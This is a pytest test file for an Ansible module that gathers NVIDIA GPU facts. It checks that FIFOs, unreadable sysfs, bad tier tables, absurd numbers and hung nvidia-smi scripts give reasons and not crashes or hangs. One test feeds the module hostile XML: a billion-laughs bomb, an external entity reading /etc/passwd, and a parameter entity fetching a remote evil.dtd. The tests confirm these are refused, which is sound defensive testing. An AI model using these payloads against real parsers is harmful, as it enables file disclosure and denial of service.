"""Every bad input to gpu_facts answered (issue 13, item 9).

Each case runs the module's ``main()`` (conftest's ``ansible_module`` fixture: an
exit or a failure of the module ends the call; any other exception, a traceback,
fails the test) and checks three things:

(a) no traceback: the module exits with facts carrying a reason in
    ``llmfleet_hardware.problems`` (and then the tier is null, never a guess), or
    fails with a message;
(b) the reason or the message names the input: the file, the document field, the
    tier entry and field;
(c) for the cases that used to hang (a FIFO in sysfs, a hung or flooding
    nvidia-smi, one that leaves children behind), the call returns within the
    module's timeout plus a margin (bounds are generous, 3x the timeout, and a
    SIGALRM guard turns a real hang into a failure instead of a stuck run), and no
    process it started is left running (checked on the recorded pids in /proc).

nvidia-smi is either the runner replaced by a stub (output as given) or a real
shell script run by the real runner (hangs, children, floods). sysfs and procfs
are fake trees from conftest's builders.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import gpu_facts
import llmfleet_gpu as g
import pytest
from ansible.module_utils import basic
from helpers import write_sysfs

NO_DRIVER = b"NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver.\n"

#: Timeout (s) given to the module in the hang cases, and the bound they must meet.
HANG_TIMEOUT = 2
HANG_BOUND = 3 * HANG_TIMEOUT

#: A sysfs tree with no NVIDIA device at all (an Intel iGPU): by itself, tier cpu.
NO_NVIDIA = {"0000:00:02.0": {"vendor": "0x8086", "class": "0x030000", "device": "0x4680"}}
#: One NVIDIA GPU on the bus.
ONE_GPU = {"0000:01:00.0": {"vendor": "0x10de", "class": "0x030200", "device": "0x20b0"}}


# ---------------------------------------------------------------------------
# Helpers and fixtures (conftest.py belongs to someone else: they live here)
# ---------------------------------------------------------------------------


class Hang(BaseException):
    """Raised by the SIGALRM guard; a BaseException so no ``except OSError`` eats it."""


@contextlib.contextmanager
def hang_guard(seconds: float) -> Iterator[None]:
    """Fail (instead of hanging the test run) when the body runs past ``seconds``."""

    def fire(signum: int, frame: object) -> None:
        raise Hang(f"still running after {seconds} s: it hangs")

    previous = signal.signal(signal.SIGALRM, fire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def alive(pid: int) -> bool:
    """Whether ``pid`` runs (a zombie has finished: it only waits to be reaped)."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as handle:
            return handle.read().rsplit(b")", 1)[1].split()[0] != b"Z"
    except (FileNotFoundError, ProcessLookupError):
        return False


def session_members(sid: int) -> list[int]:
    """Running processes whose session or process group is ``sid``."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/stat", "rb") as handle:
                fields = handle.read().rsplit(b")", 1)[1].split()
        except OSError:
            continue
        if fields[0] != b"Z" and sid in (int(fields[2]), int(fields[3])):
            found.append(int(name))
    return found


def assert_nothing_left(*pid_files: Path) -> None:
    """Every pid recorded in ``pid_files`` is gone, and so is its session (within 2 s:
    SIGKILL is asynchronous)."""
    pids = [int(path.read_text().split()[0]) for path in pid_files]
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline and any(alive(pid) for pid in pids):
        time.sleep(0.05)
    assert not [pid for pid in pids if alive(pid)], "a process nvidia-smi started outlived it"
    for pid in pids:
        assert not session_members(pid), f"processes left in the session of {pid}"


def script(path: Path, body: str) -> Path:
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return path


def answered(stdout: bytes, rc: int = 0) -> gpu_facts.RunResult:
    return gpu_facts.RunResult(rc, stdout, b"", None)


class StubRunner:
    """Stands in for gpu_facts.run_program: ``-q -x`` gets ``result``, the
    compute-capability query gets ``caps`` (by default an old driver's refusal)."""

    def __init__(self, result: gpu_facts.RunResult, caps: gpu_facts.RunResult | None) -> None:
        self.result = result
        self.caps = caps or gpu_facts.RunResult(
            2, b'Field "compute_cap" is not valid.\n', b"", None
        )

    def __call__(self, argv: Sequence[str], timeout: float) -> gpu_facts.RunResult:
        return self.caps if any(a.startswith("--query-gpu") for a in argv) else self.result


@pytest.fixture
def stub_smi(monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    """``stub_smi(stdout, rc=0, caps=None)``: nvidia-smi (found at /usr/bin) answers so."""

    def install(stdout: bytes, rc: int = 0, caps: gpu_facts.RunResult | None = None) -> None:
        monkeypatch.setattr(gpu_facts, "run_program", StubRunner(answered(stdout, rc), caps))
        monkeypatch.setattr(
            basic.AnsibleModule,
            "get_bin_path",
            lambda self, arg, required=False, opt_dirs=None: f"/usr/bin/{arg}",
        )

    return install


@pytest.fixture
def gather_facts(
    ansible_module: Callable[..., dict[str, Any]], fake_proc: Path
) -> Callable[..., dict[str, Any]]:
    """``gather_facts(sysfs, **args)``: run the module (guarded against hangs) and
    return what it exited with, plus ``elapsed`` seconds."""

    def run(sysfs: Path, **args: Any) -> dict[str, Any]:
        args.setdefault("proc_root", str(fake_proc))
        started = time.monotonic()
        with hang_guard(HANG_BOUND + 10):
            result = ansible_module(gpu_facts.main, {"sysfs_root": str(sysfs), **args})
        result["elapsed"] = time.monotonic() - started
        return result

    return run


def problems_of(result: dict[str, Any]) -> list[str]:
    return result["ansible_facts"]["llmfleet_hardware"]["problems"]


def assert_undecided(result: dict[str, Any], *names: str) -> list[str]:
    """(a) exited with facts and a reason, tier null; (b) a reason names each of ``names``."""
    tier = result["ansible_facts"]["llmfleet_tier"]
    assert tier is None, f"a bad input gave tier {tier!r}"
    problems = problems_of(result)
    assert problems, "a bad input gave no reason"
    assert all(isinstance(problem, str) and problem for problem in problems)
    text = "\n".join(problems)
    for name in names:
        assert name in text, (name, problems)
    return problems


def gpu_doc(*gpus: str, head: str = "<attached_gpus>1</attached_gpus>") -> bytes:
    return f"<nvidia_smi_log>{head}{''.join(gpus)}</nvidia_smi_log>".encode()


def gpu_xml(
    bus: str = "00000000:01:00.0",
    total: str = "24564 MiB",
    extra: str = "",
    pci: str = "",
) -> str:
    return (
        f'<gpu id="{bus}"><product_name>Test GPU</product_name>'
        f"<pci><pci_bus_id>{bus}</pci_bus_id>{pci}</pci>"
        f"<fb_memory_usage><total>{total}</total></fb_memory_usage>{extra}</gpu>"
    )


def run_unprivileged(func: Callable[[], Any]) -> Any:
    """``func()`` without root's power to read any file (as ``nobody`` in a forked
    child when the tests run as root); its result must be JSON."""
    if os.geteuid() != 0:
        return func()
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.close(read_end)
            os.setgroups([])
            os.setgid(65534)
            os.setuid(65534)
            try:
                payload = {"result": func()}
            except BaseException as exc:  # report, never run the parent's code
                payload = {"error": f"{type(exc).__name__}: {exc}"}
            os.write(write_end, json.dumps(payload, default=str).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    chunks = []
    while chunk := os.read(read_end, 65536):
        chunks.append(chunk)
    os.close(read_end)
    os.waitpid(pid, 0)
    payload = json.loads(b"".join(chunks))
    assert "error" not in payload, payload["error"]
    return payload["result"]


@pytest.fixture
def public_dir() -> Iterator[Path]:
    """A folder ``nobody`` can enter (pytest's tmp_path is private to root)."""
    path = Path(tempfile.mkdtemp(prefix="gpu-facts-bad-"))
    path.chmod(0o755)
    yield path
    for below in path.rglob("*"):
        with contextlib.suppress(OSError):
            if below.is_dir() and not below.is_symlink():
                below.chmod(0o755)
    shutil.rmtree(path, ignore_errors=True)


# ---------------------------------------------------------------------------
# Finding 1: a FIFO in sysfs hung the module forever
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("attribute", ["vendor", "class", "device", "max_link_speed"])
def test_fifo_in_sysfs_is_a_reason_not_a_hang(
    make_sysfs: Callable[..., Path],
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    attribute: str,
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    files = {k: v for k, v in ONE_GPU["0000:01:00.0"].items() if k != attribute}
    sysfs = make_sysfs(devices={"0000:01:00.0": files})
    fifo = sysfs / "bus/pci/devices/0000:01:00.0" / attribute
    os.mkfifo(fifo)  # no writer: an open() without O_NONBLOCK blocks forever

    result = gather_facts(sysfs)

    assert result["elapsed"] < HANG_BOUND
    assert_undecided(result, f"{fifo} is not a regular file (a FIFO)")


def test_fifo_behind_a_symlink_and_a_device_node(
    make_sysfs: Callable[..., Path],
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    tmp_path: Path,
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    sysfs = make_sysfs(devices={"0000:01:00.0": {}, "0000:02:00.0": {}})
    os.mkfifo(tmp_path / "elsewhere")
    (sysfs / "bus/pci/devices/0000:01:00.0/vendor").symlink_to(tmp_path / "elsewhere")
    (sysfs / "bus/pci/devices/0000:02:00.0/vendor").symlink_to("/dev/zero")

    result = gather_facts(sysfs)

    assert result["elapsed"] < HANG_BOUND
    assert_undecided(result, "0000:01:00.0/vendor is not a regular file (a FIFO)")
    assert_undecided(result, "0000:02:00.0/vendor is not a regular file (a character device)")


def test_fifo_as_meminfo_and_module_version(
    make_sysfs: Callable[..., Path],
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    tmp_path: Path,
    capture: Callable[[str], bytes],
) -> None:
    stub_smi(capture("t4.xml"))
    sysfs = make_sysfs(nvidia_module_version="535.1")
    (sysfs / "module/nvidia/version").unlink()
    os.mkfifo(sysfs / "module/nvidia/version")
    proc = tmp_path / "proc-with-fifo"
    proc.mkdir()
    os.mkfifo(proc / "meminfo")

    result = gather_facts(sysfs, proc_root=str(proc))

    assert result["elapsed"] < HANG_BOUND
    assert_undecided(result, f"procfs {proc / 'meminfo'} is not a regular file", "version")
    assert result["ansible_facts"]["llmfleet_hardware"]["memory_total_mib"] is None


# ---------------------------------------------------------------------------
# Finding 2: an unreadable sysfs gave tier cpu instead of undecided
# ---------------------------------------------------------------------------


def test_unlistable_pci_folder_is_undecided_not_cpu(
    tmp_path: Path, stub_smi: Callable[..., None], gather_facts: Callable[..., dict[str, Any]]
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    sysfs = tmp_path / "sys"
    (sysfs / "bus/pci").mkdir(parents=True)
    (sysfs / "bus/pci/devices").write_text("not a folder\n")

    result = gather_facts(sysfs)

    assert_undecided(result, f"sysfs {sysfs / 'bus/pci/devices'} cannot be listed: Not a directory")
    hardware = result["ansible_facts"]["llmfleet_hardware"]
    assert hardware["usable_vram_mib"] is None
    assert hardware["nvswitch_count"] is None


def test_pci_folder_in_a_symlink_loop(
    tmp_path: Path, stub_smi: Callable[..., None], gather_facts: Callable[..., dict[str, Any]]
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    sysfs = tmp_path / "sys"
    (sysfs / "bus/pci").mkdir(parents=True)
    (sysfs / "bus/pci/devices").symlink_to(sysfs / "bus/pci/loop")
    (sysfs / "bus/pci/loop").symlink_to(sysfs / "bus/pci/devices")

    assert_undecided(gather_facts(sysfs), "bus/pci/devices cannot be listed", "symbolic links")


def test_symlink_loop_as_a_device_attribute(
    make_sysfs: Callable[..., Path],
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    sysfs = make_sysfs(devices={"0000:01:00.0": {"class": "0x030200"}})
    device = sysfs / "bus/pci/devices/0000:01:00.0"
    (device / "vendor").symlink_to(device / "vendor2")
    (device / "vendor2").symlink_to(device / "vendor")

    result = gather_facts(sysfs)

    assert_undecided(result, f"{device / 'vendor'} cannot be read", "symbolic links")
    assert result["ansible_facts"]["llmfleet_hardware"]["nvswitch_count"] is None


def test_device_folder_with_unreadable_files(
    public_dir: Path, stub_smi: Callable[..., None], ansible_module: Callable[..., Any]
) -> None:
    # chmod 000 does not stop root: the module runs as nobody in a forked child.
    stub_smi(NO_DRIVER, rc=9)
    sysfs = g_build(public_dir, {**NO_NVIDIA, **ONE_GPU})
    device = sysfs / "bus/pci/devices/0000:01:00.0"
    for name in ("vendor", "class", "device"):
        (device / name).chmod(0)

    def module() -> dict[str, Any]:
        return ansible_module(
            gpu_facts.main, {"sysfs_root": str(sysfs), "proc_root": str(public_dir / "none")}
        )

    result = run_unprivileged(module)

    assert_undecided(result, f"sysfs {device / 'vendor'} cannot be read: Permission denied")
    assert result["ansible_facts"]["llmfleet_hardware"]["source"] == "none"  # nothing seen...
    assert result["ansible_facts"]["llmfleet_hardware"]["usable_vram_mib"] is None  # ...or known


def test_pci_folder_without_permission(
    public_dir: Path, stub_smi: Callable[..., None], ansible_module: Callable[..., Any]
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    sysfs = g_build(public_dir, ONE_GPU)
    (sysfs / "bus/pci/devices").chmod(0)

    result = run_unprivileged(
        lambda: ansible_module(
            gpu_facts.main, {"sysfs_root": str(sysfs), "proc_root": str(public_dir / "none")}
        )
    )

    assert_undecided(result, "bus/pci/devices cannot be listed: Permission denied")


def g_build(root: Path, devices: dict[str, dict[str, str]]) -> Path:
    """A fake sysfs under ``root`` that ``nobody`` can read (umask aside)."""
    sysfs = write_sysfs(root / "sys", devices)
    for path in [sysfs, *sysfs.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    return sysfs


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda d: (d / "vendor").mkdir(), "vendor is not a regular file (a directory)"),
        (
            lambda d: (d / "vendor").write_text("0x10de" + " " * 5000),
            "vendor is larger than 4096 bytes",
        ),
        (lambda d: None, "vendor is missing"),
        (lambda d: (d / "vendor").symlink_to(d / "gone"), "vendor is missing"),
    ],
    ids=["directory", "oversized", "missing", "dangling-symlink"],
)
def test_vendor_file_that_is_not_a_small_file(
    make_sysfs: Callable[..., Path],
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    make: Callable[[Path], None],
    reason: str,
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    sysfs = make_sysfs(devices={**NO_NVIDIA, "0000:01:00.0": {"class": "0x030200"}})
    make(sysfs / "bus/pci/devices/0000:01:00.0")

    assert_undecided(gather_facts(sysfs), f"0000:01:00.0/{reason}")


def test_sysfs_problem_undecides_even_when_nvidia_smi_answers(
    make_sysfs: Callable[..., Path],
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    capture: Callable[[str], bytes],
) -> None:
    stub_smi(capture("t4.xml"))
    sysfs = make_sysfs(devices={"0000:c3:00.0": {"vendor": "0x10de"}})
    os.mkfifo(sysfs / "bus/pci/devices/0000:c3:00.0/class")

    result = gather_facts(sysfs)

    assert_undecided(result, "0000:c3:00.0/class is not a regular file")
    hardware = result["ansible_facts"]["llmfleet_hardware"]
    assert hardware["usable_vram_mib"] == 15360  # what nvidia-smi said stays, the tier does not
    assert hardware["nvswitch_count"] is None


# ---------------------------------------------------------------------------
# Finding 3: vram_gib 1e308 raised OverflowError; the tier table is validated
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tiers", "entry", "field"),
    [
        ([{"name": "huge", "vram_gib": 1e308}], "tiers[0]", "vram_gib"),
        ([{"name": "huge", "vram_gib": "1e308"}], "tiers[0]", "vram_gib"),
        ([{"name": "big", "vram_gib": 10**400}], "tiers[0]", "vram_gib"),
        (
            [{"name": "a", "vram_gib": 4}, {"name": "b", "vram_gib": float("inf")}],
            "tiers[1]",
            "vram_gib",
        ),
        ([{"name": "a", "vram_gib": "-inf"}], "tiers[0]", "vram_gib"),
        ([{"name": "a", "vram_gib": float("nan")}], "tiers[0]", "vram_gib"),
        ([{"name": "a", "vram_gib": "NaN"}], "tiers[0]", "vram_gib"),
        ([{"name": "a", "vram_gib": -16}], "tiers[0]", "vram_gib"),
        ([{"name": "a", "vram_gib": "sixteen"}], "tiers[0]", "vram_gib"),
        ([{"name": "a", "vram_gib": [16]}], "tiers[0]", "vram_gib"),
        ([{"name": "a", "vram_gib": None}], "tiers[0]", "vram_gib"),
        ([{"name": 16, "vram_gib": 16}], "tiers[0]", "name"),
        ([{"name": "  ", "vram_gib": 16}], "tiers[0]", "name"),
        ([{"name": "Cpu", "vram_gib": 2}], "tiers[0]", "fallback tier and cannot be a name"),
        (
            [{"name": "pro", "vram_gib": 16}, {"name": "pro", "vram_gib": 32}],
            "tiers[1]",
            "name 'pro' repeats tiers[0]",
        ),
        (
            [{"name": "pro", "vram_gib": 16}, {"name": "pro2", "vram_gib": 16.0001}],
            "tiers[1]",
            "vram_gib 16.0001 repeats tiers[0]: both need 14746 MiB",
        ),
    ],
    ids=[
        "1e308",
        "1e308-string",
        "int-too-big-for-float",
        "inf",
        "minus-inf-string",
        "nan",
        "nan-string",
        "negative",
        "word",
        "list",
        "null",
        "name-not-a-string",
        "name-blank",
        "name-cpu",
        "duplicated-name",
        "same-threshold",
    ],
)
def test_bad_tier_table_fails_naming_entry_and_field(
    fake_sysfs: Path,
    stub_smi: Callable[..., None],
    ansible_module: Callable[..., dict[str, Any]],
    tiers: list[dict[str, Any]],
    entry: str,
    field: str,
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    result = ansible_module(
        gpu_facts.main, {"sysfs_root": str(fake_sysfs), "tiers": tiers}, fails=True
    )
    assert result["msg"].startswith(f"invalid tiers: {entry} ("), result
    # The entry's repr names every key: the field must be named after it.
    assert field in result["msg"].split("): ", 1)[1]
    assert "Traceback" not in result["msg"]


def test_tier_entry_that_is_not_a_mapping(
    fake_sysfs: Path, stub_smi: Callable[..., None], ansible_module: Callable[..., Any]
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    result = ansible_module(
        gpu_facts.main, {"sysfs_root": str(fake_sysfs), "tiers": [["pro", 16]]}, fails=True
    )
    assert "tiers" in result["msg"]  # Ansible's own check of elements: dict


def test_unsorted_tier_table_is_read_in_any_order(
    fake_sysfs: Path, stub_smi: Callable[..., None], ansible_module: Callable[..., Any]
) -> None:
    # Not a bad input: the documented table is order-free. The answer is the same
    # tier as the sorted table, and the thresholds say what each entry needs.
    stub_smi(gpu_doc(gpu_xml(total="15360 MiB")))
    unsorted = [
        {"name": "c", "vram_gib": 32},
        {"name": "a", "vram_gib": 4},
        {"name": "b", "vram_gib": 16},
    ]
    result = ansible_module(gpu_facts.main, {"sysfs_root": str(fake_sysfs), "tiers": unsorted})
    assert result["ansible_facts"]["llmfleet_tier"] == "b"
    assert result["tier_thresholds_mib"] == {"c": 29492, "a": 3687, "b": 14746, "cpu": 0}


def test_tier_thresholds_overflow_no_longer() -> None:
    # The arithmetic that raised OverflowError is only reached with a checked table.
    with pytest.raises(OverflowError):
        g.tier_min_vram_mib(1e308)
    with pytest.raises(ValueError, match=r"tiers\[0\].*vram_gib"):
        g.validate_tiers([{"name": "huge", "vram_gib": 1e308}])


# ---------------------------------------------------------------------------
# Finding 4: a GPU reporting 10^20 MiB was accepted as enterprise;
# every number from the tool is range-checked
# ---------------------------------------------------------------------------


def test_gpu_with_1e20_mib_is_not_enterprise(
    fake_sysfs: Path, stub_smi: Callable[..., None], gather_facts: Callable[..., dict[str, Any]]
) -> None:
    stub_smi(gpu_doc(gpu_xml(total=f"{10**20} MiB")))

    result = gather_facts(fake_sysfs)

    assert result["ansible_facts"]["llmfleet_tier"] != "enterprise"
    gpu = result["ansible_facts"]["llmfleet_hardware"]["gpus"][0]
    assert gpu["memory_total_mib"] is None
    assert gpu["usable_vram_mib"] is None
    assert_undecided(result, "(0000:01:00.0): fb_memory_usage/total", "16 TiB")


PCIE = (
    "<pci_gpu_link_info><pcie_gen><max_link_gen>{max_gen}</max_link_gen>"
    "<current_link_gen>{cur_gen}</current_link_gen>"
    "<max_device_link_gen>{dev_gen}</max_device_link_gen>"
    "<max_host_link_gen>{host_gen}</max_host_link_gen></pcie_gen>"
    "<link_widths><max_link_width>{max_width}</max_link_width>"
    "<current_link_width>{cur_width}</current_link_width></link_widths></pci_gpu_link_info>"
)
GOOD_PCIE = {
    "max_gen": "4",
    "cur_gen": "1",
    "dev_gen": "4",
    "host_gen": "4",
    "max_width": "16x",
    "cur_width": "16x",
}
MIG = (
    "<mig_mode><current_mig>Enabled</current_mig></mig_mode><mig_devices><mig_device>"
    "<gpu_instance_id>1</gpu_instance_id><fb_memory_usage><total>{mig}</total>"
    "</fb_memory_usage></mig_device></mig_devices>"
)
#: field -> (the element's path in a problem, how to put a value there)
NUMERIC_FIELDS: dict[str, tuple[str, Callable[[str], bytes]]] = {
    "memory": ("fb_memory_usage/total", lambda v: gpu_doc(gpu_xml(total=v))),
    "mig_instance": (
        "mig_device 0: fb_memory_usage/total",
        lambda v: gpu_doc(gpu_xml(total="40960 MiB", extra=MIG.format(mig=v))),
    ),
    **{
        key: (
            path,
            lambda v, key=key: gpu_doc(gpu_xml(pci=PCIE.format(**{**GOOD_PCIE, key: v}))),
        )
        for key, path in (
            ("max_gen", "pcie_gen/max_link_gen"),
            ("cur_gen", "pcie_gen/current_link_gen"),
            ("dev_gen", "pcie_gen/max_device_link_gen"),
            ("host_gen", "pcie_gen/max_host_link_gen"),
            ("max_width", "link_widths/max_link_width"),
            ("cur_width", "link_widths/current_link_width"),
        )
    },
    "attached_gpus": (
        "attached_gpus",
        lambda v: gpu_doc(gpu_xml(), head=f"<attached_gpus>{v}</attached_gpus>"),
    ),
    "compute_cap": (
        "compute_cap",
        lambda v: gpu_doc(gpu_xml(extra=f"<compute_cap>{v}</compute_cap>")),
    ),
    "pci_device_id": (
        "pci/pci_device_id",
        lambda v: gpu_doc(gpu_xml(pci=f"<pci_device_id>{v}</pci_device_id>")),
    ),
}
BAD_NUMBERS = {"negative": "-1", "nan": "NaN", "huge": str(10**20)}


@pytest.mark.parametrize("field", sorted(NUMERIC_FIELDS))
@pytest.mark.parametrize("bad", sorted(BAD_NUMBERS))
def test_bad_number_in_each_numeric_field(
    fake_sysfs: Path,
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    field: str,
    bad: str,
) -> None:
    path, document = NUMERIC_FIELDS[field]
    value = BAD_NUMBERS[bad]
    if field in ("memory", "mig_instance"):
        value += " MiB"
    stub_smi(document(value))

    result = gather_facts(fake_sysfs)

    (problem,) = assert_undecided(result, path, repr(value))
    assert problem.startswith("nvidia-smi")
    assert " is not " in problem


@pytest.mark.parametrize(
    ("total", "extra", "reason"),
    [
        ("0 MiB", "", "fb_memory_usage/total '0 MiB' is not a memory size"),
        ("", "", "fb_memory_usage/total is not reported"),
        ("N/A", "", "fb_memory_usage/total is not reported"),
        ("4096 MiB", MIG.format(mig="8192 MiB"), "larger than the whole GPU (4096 MiB)"),
        ("40960 MiB", MIG.format(mig="[N/A]"), "mig_device 0: fb_memory_usage/total is not"),
        (
            "40960 MiB",
            "<mig_mode><current_mig>[Unknown Error]</current_mig></mig_mode>",
            "mig_mode/current_mig 'Unknown Error' is neither Enabled nor Disabled",
        ),
    ],
    ids=["zero", "empty", "n/a", "mig-bigger-than-gpu", "mig-n/a", "mig-mode-unknown"],
)
def test_missing_or_impossible_memory(
    fake_sysfs: Path,
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    total: str,
    extra: str,
    reason: str,
) -> None:
    stub_smi(gpu_doc(gpu_xml(total=total, extra=extra)))
    assert_undecided(gather_facts(fake_sysfs), "nvidia-smi <gpu> 0 (0000:01:00.0)", reason)


def test_gpu_without_any_memory_block(
    fake_sysfs: Path, stub_smi: Callable[..., None], gather_facts: Callable[..., dict[str, Any]]
) -> None:
    stub_smi(gpu_doc("<gpu><uuid>GPU-x</uuid></gpu>"))
    assert_undecided(gather_facts(fake_sysfs), "<gpu> 0: fb_memory_usage/total is not reported")


# ---------------------------------------------------------------------------
# Finding 5: a duplicated PCI bus id was counted twice
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "second_id", ["00000000:01:00.0", "0000:01:00.0", "00000000:01:00.0 "], ids=str.strip
)
def test_duplicated_bus_id_counts_once(
    fake_sysfs: Path,
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    second_id: str,
) -> None:
    stub_smi(gpu_doc(gpu_xml(), gpu_xml(bus=second_id), gpu_xml(bus="00000000:41:00.0")))

    result = gather_facts(fake_sysfs)

    hardware = result["ansible_facts"]["llmfleet_hardware"]
    assert hardware["gpu_count"] == 2
    assert [gpu["index"] for gpu in hardware["gpus"]] == [0, 1]
    assert [gpu["pci_bus_id"] for gpu in hardware["gpus"]] == ["0000:01:00.0", "0000:41:00.0"]
    assert hardware["usable_vram_mib"] == 2 * 24564  # not three cards' worth
    assert_undecided(result, "<gpu> 1: pci_bus_id 0000:01:00.0 repeats <gpu> 0; counted once")


def test_duplicated_bus_id_in_sysfs_counts_once(
    make_sysfs: Callable[..., Path],
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
) -> None:
    stub_smi(NO_DRIVER, rc=9)
    gpu = ONE_GPU["0000:01:00.0"]
    sysfs = make_sysfs(devices={"0000:01:00.0": gpu, "00000000:01:00.0": gpu})

    result = gather_facts(sysfs)

    assert_undecided(result, "0000:01:00.0 repeats bus id 0000:01:00.0 of 00000000:01:00.0")
    assert result["ansible_facts"]["llmfleet_hardware"]["gpu_count"] == 1


def test_conflicting_compute_capabilities_are_left_out(
    fake_sysfs: Path, stub_smi: Callable[..., None], gather_facts: Callable[..., dict[str, Any]]
) -> None:
    caps = answered(b"00000000:01:00.0, 8.6\n00000000:01:00.0, 9.0\n")
    stub_smi(gpu_doc(gpu_xml()), caps=caps)

    result = gather_facts(fake_sysfs)

    assert_undecided(result, "pci.bus_id 0000:01:00.0 is listed again with compute_cap 9.0")
    assert result["ansible_facts"]["llmfleet_hardware"]["gpus"][0]["compute_capability"] is None


# ---------------------------------------------------------------------------
# The document itself: truncated, hostile, not UTF-8, empty
# ---------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE nvidia_smi_log [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
        for n in range(1, 10)
    )
    + "]><nvidia_smi_log><driver_version>&lol9;</driver_version></nvidia_smi_log>"
).encode()


@pytest.mark.parametrize(
    ("stdout", "reason"),
    [
        (gpu_doc(gpu_xml())[:90], "exited with status 0 but nvidia-smi output is not well-formed"),
        (b"", "exited with status 0 but nvidia-smi printed no output"),
        (b"   \n", "printed no output"),
        (
            gpu_doc(gpu_xml()).replace(b"Test GPU", b"Test \xff\xfe GPU"),
            "not well-formed XML: not well-formed (invalid token): line 1",
        ),
        (BILLION_LAUGHS, "declares the entity 'lol'; entities are refused"),
        (
            b'<?xml version="1.0"?><!DOCTYPE nvidia_smi_log [<!ENTITY leak SYSTEM '
            b'"file:///etc/passwd">]><nvidia_smi_log><driver_version>&leak;'
            b"</driver_version></nvidia_smi_log>",
            "declares the entity 'leak'",
        ),
        (
            b'<?xml version="1.0"?><!DOCTYPE nvidia_smi_log [<!ENTITY % remote SYSTEM '
            b'"http://192.0.2.1/evil.dtd">%remote;]><nvidia_smi_log/>',
            "declares the entity 'remote'",
        ),
        (
            b'<?xml version="1.0"?><!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd">'
            b"<nvidia_smi_log><driver_version>&undeclared;</driver_version></nvidia_smi_log>",
            "refers to the undeclared entity 'undeclared'",
        ),
        (b"<?xml version='1.0'?><html><gpu/></html>", "has root <html>"),
    ],
    ids=[
        "truncated",
        "exit-0-empty",
        "exit-0-blank",
        "not-utf-8",
        "billion-laughs",
        "external-entity",
        "parameter-entity",
        "undeclared-entity",
        "wrong-root",
    ],
)
def test_unusable_document_is_a_reason(
    make_sysfs: Callable[..., Path],
    stub_smi: Callable[..., None],
    gather_facts: Callable[..., dict[str, Any]],
    stdout: bytes,
    reason: str,
) -> None:
    # No NVIDIA device in sysfs: before, such a host was "cpu" although nvidia-smi
    # ran and exited 0. Now the driver is there but unreadable: undecided.
    stub_smi(stdout)

    result = gather_facts(make_sysfs(devices=NO_NVIDIA))

    assert result["elapsed"] < HANG_BOUND  # a billion laughs is refused, not expanded
    problems = assert_undecided(result, "nvidia-smi -q -x: /usr/bin/nvidia-smi", reason)
    assert result["nvidia_smi_error"]
    assert result["nvidia_smi_error"] in "\n".join(problems)
    assert "root:" not in json.dumps(result)  # nothing of /etc/passwd came in


# ---------------------------------------------------------------------------
# Finding 6 and the timeout: a real nvidia-smi that hangs, floods or leaves children
# ---------------------------------------------------------------------------

NEEDS_SETSID = pytest.mark.skipif(shutil.which("setsid") is None, reason="no setsid(1)")


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("echo $$ > {me}; sleep 60 & echo $! > {child}; wait\n", id="group-child"),
        pytest.param(
            "echo $$ > {me}; setsid sleep 60 & echo $! > {child}; wait\n",
            id="setsid-child-holding-the-pipe",
            marks=NEEDS_SETSID,
        ),
        pytest.param(
            "echo $$ > {me}; setsid sleep 60 >/dev/null 2>&1 </dev/null &\n"
            "echo $! > {child}; sleep 60\n",
            id="setsid-child-detached",
            marks=NEEDS_SETSID,
        ),
        pytest.param(
            "echo $$ > {me}; echo $$ > {child}; trap '' TERM INT HUP; exec sleep 60\n",
            id="ignores-sigterm",
        ),
    ],
)
def test_hung_nvidia_smi_returns_in_time_and_leaves_nothing(
    tmp_path: Path,
    make_sysfs: Callable[..., Path],
    gather_facts: Callable[..., dict[str, Any]],
    body: str,
) -> None:
    me, child = tmp_path / "me.pid", tmp_path / "child.pid"
    smi = script(tmp_path / "nvidia-smi", body.format(me=me, child=child))

    result = gather_facts(make_sysfs(devices=NO_NVIDIA), nvidia_smi=str(smi), timeout=HANG_TIMEOUT)

